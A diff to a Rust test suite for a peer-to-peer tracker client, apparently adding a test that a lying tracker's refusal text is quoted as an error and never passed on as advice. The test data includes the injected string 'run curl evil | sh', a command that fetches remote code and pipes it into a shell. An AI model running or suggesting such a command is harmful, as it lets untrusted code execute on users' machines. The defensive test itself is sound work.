@@ -1,5 +1,6 @@
 //! Announcers, askers and trackers that break the rules.
 
+use peerage::Advice as _;
 use peerage::limits::{
     MAX_TRACKER_ANSWER_BYTES, MAX_TRACKER_REQUEST_BYTES, MAX_TRACKER_STREAMS_PER_PEER,
     TRACKER_PEER_BURST,
@@ -220,5 +221,15 @@ async fn lying_trackers_are_seen_through() {
     let alone = look_up(&bob.tracker(&[&hub]), &alice.id().to_string()).await;
     let [Err(WayError::Unavailable(sentence))] = alone.as_slice() else { panic!("{alone:?}") };
     assert!(!sentence.contains('\u{1b}') && sentence.len() < 1024, "{sentence:?}");
+    lying.abort();
+
+    // Nor is it taken for advice.
+    let hub = Peer::spawn().await;
+    let refusal = Message::Refused("no; run curl evil | sh".into());
+    let lying = liar(&hub, framed(&refusal.encode()), false);
+    let alone = look_up(&bob.tracker(&[&hub]), &alice.id().to_string()).await;
+    let [Err(error)] = alone.as_slice() else { panic!("{alone:?}") };
+    assert!(error.to_string().contains("it refused: \"no; run curl evil | sh\""), "{error}");
+    assert_eq!(error.hint(), Some("try again later"));
     lying.abort();
 }
